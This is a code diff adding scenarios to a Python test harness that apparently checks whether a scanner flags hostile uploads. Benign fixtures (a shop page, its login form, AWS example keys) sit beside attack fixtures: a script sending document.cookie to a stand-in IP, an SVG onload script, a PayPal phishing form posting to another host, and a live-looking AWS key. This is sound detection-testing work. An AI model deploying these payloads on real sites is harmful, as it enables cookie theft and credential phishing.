@@ -420,6 +420,55 @@ def uploads(*items: tuple[str, bytes]) -> Traffic:
     return Traffic(uploads=[Upload(p, b) for p, b in items])
 
 
+def h_static_site(ctx: Ctx) -> Traffic:
+    """A shop deploying its web site: a page with an analytics snippet, a menu button and a
+    ``javascript:void(0)`` cart link, its bundle (which fetches the catalogue) and its stylesheet."""
+    page = (
+        b'<!doctype html><html><head><meta charset="utf-8"><title>Acme Shop</title>'
+        b'<script async src="https://www.googletagmanager.com/gtag/js?id=G-ABC123"></script>'
+        b"<script>window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments);}"
+        b"gtag('js',new Date());gtag('config','G-ABC123');</script>"
+        b'<link rel="stylesheet" href="/assets/app.css"></head><body><div id="root"></div>'
+        b"<button onclick=\"document.getElementById('menu').classList.toggle('open')\">Menu</button>"
+        b'<a href="javascript:void(0)" id="cart">Cart</a><script src="/assets/app.js"></script></body></html>'
+    )
+    bundle = (
+        b"!function(e){var t={};function n(r){if(t[r])return t[r].exports;var o=t[r]={i:r,l:!1,exports:{}};"
+        b"return e[r].call(o.exports,o,o.exports,n),o.l=!0,o.exports}n.m=e,n.c=t}([function(e,t){"
+        b"document.querySelector('#root').innerHTML='<h1>Welcome</h1>';"
+        b"fetch('/api/items').then(r=>r.json()).then(i=>localStorage.setItem('items',JSON.stringify(i)))}]);\n"
+    ) * 200
+    return uploads(
+        ("site/index.html", page),
+        ("site/assets/app.js", bundle),
+        ("site/assets/app.css", b"body{margin:0}\n" * 100),
+    )
+
+
+def h_own_login_page(ctx: Ctx) -> Traffic:
+    """The shop's own sign-in page: a password form under its name, social sign-in links and the
+    payment brands it accepts named in passing."""
+    page = (
+        b"<!doctype html><html><head><title>Sign in - Acme Shop</title></head><body>"
+        b'<h1>Sign in to Acme Shop</h1><form action="/session" method="post">'
+        b'<label>Email <input type="email" name="email"></label>'
+        b'<label>Password <input type="password" name="password"></label><button>Sign in</button></form>'
+        b'<p>Or continue with <a href="/auth/google">Google</a> or <a href="/auth/apple">Apple</a>.</p>'
+        b"<footer>We accept Visa, Mastercard and PayPal.</footer></body></html>"
+    )
+    return uploads(("site/login.html", page))
+
+
+def h_readme_example_keys(ctx: Ctx) -> Traffic:
+    """A project's README quoting AWS's documented example credentials and a test card number."""
+    readme = (
+        b"# Deploy\n\nSet your credentials, e.g.\n\n    export AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE\n"
+        b"    export AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n\n"
+        b"Pay with the test card 4242 4242 4242 4242, any CVC.\n"
+    )
+    return uploads(("repo/README", readme))
+
+
 def h_export_ids(ctx: Ctx) -> Traffic:
     rows = ["order_no,order_uuid,customer,sku,amount_eur,created"]
     for i in range(2000):
@@ -873,6 +922,42 @@ def a_svg_js(ctx: Ctx) -> Traffic:
     return uploads(("site/logo.svg", SVG_JS))
 
 
+def a_cookie_theft(ctx: Ctx) -> Traffic:
+    """A page whose inline script sends the visitor's cookies away."""
+    page = (
+        b"<html><body><p>Loading...</p><script>new Image().src='//203.0.113.9/c?'+"
+        b"encodeURIComponent(document.cookie);</script></body></html>"
+    )
+    return uploads(("site/promo.html", page))
+
+
+def a_svg_onload(ctx: Ctx) -> Traffic:
+    """An SVG "logo" that runs a script by itself when opened (onload)."""
+    return uploads(
+        ("site/logo.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect/></svg>')
+    )
+
+
+def a_phishing_kit(ctx: Ctx) -> Traffic:
+    """A PayPal sign-in page posting the password to another host."""
+    page = (
+        b"<html><head><title>Sign in to your PayPal account</title></head><body><h2>PayPal</h2>"
+        b'<form action="https://collect.example/login" method="post"><input name="email">'
+        b'<input type="password" name="pw"><button>Log in</button></form></body></html>'
+    )
+    return uploads(("site/paypal-verify.html", page))
+
+
+def a_leaked_aws_key(ctx: Ctx) -> Traffic:
+    """A deployment script with a live-looking AWS access key id."""
+    return uploads(
+        (
+            "repo/deploy.sh",
+            b"#!/bin/sh\nexport AWS_ACCESS_KEY_ID=AKIA2OGYBAH6TXQ4ZR7M\naws s3 sync . s3://x\n",
+        )
+    )
+
+
 def a_pe_jpg(ctx: Ctx) -> Traffic:
     return uploads(("photos/holiday.jpg", F.pe(ctx.rng)))
 
@@ -1010,6 +1095,28 @@ SCENARIOS: list[Scenario] = [
         h_docs_search,
     ),
     # honest: uploads
+    Scenario(
+        "static-site-deploy",
+        H,
+        "standard",
+        "a web site: analytics snippet, onclick menu, javascript:void(0), its bundle",
+        h_static_site,
+    ),
+    Scenario(
+        "own-login-page",
+        H,
+        "standard",
+        "its own sign-in page naming Google, Apple and PayPal in passing",
+        h_own_login_page,
+        fast=True,
+    ),
+    Scenario(
+        "readme-example-keys",
+        H,
+        "standard",
+        "a README quoting AWS's documented example keys and a test card",
+        h_readme_example_keys,
+    ),
     Scenario(
         "export-order-numbers",
         H,
@@ -1236,6 +1343,24 @@ SCENARIOS: list[Scenario] = [
         "svg-obfuscated-javascript", A, "free", "a newline-split javascript: link in SVG", a_svg_js, ("I3",)
     ),
     Scenario("pe-named-jpg", A, "free", "a Windows executable named .jpg", a_pe_jpg, ("I3",), fast=True),
+    Scenario(
+        "cookie-theft-page",
+        A,
+        "free",
+        "an inline script sending document.cookie away",
+        a_cookie_theft,
+        ("I3",),
+    ),
+    Scenario("svg-onload", A, "free", "an SVG that runs a script when opened", a_svg_onload, ("I3",)),
+    Scenario("phishing-kit", A, "free", "a PayPal sign-in page posting elsewhere", a_phishing_kit, ("W1",)),
+    Scenario(
+        "leaked-aws-key",
+        A,
+        "standard",
+        "a deploy script with an AWS access key id",
+        a_leaked_aws_key,
+        ("W2",),
+    ),
 ]
 
 MATRIX_CONTAINERS = list(CONTAINERS)
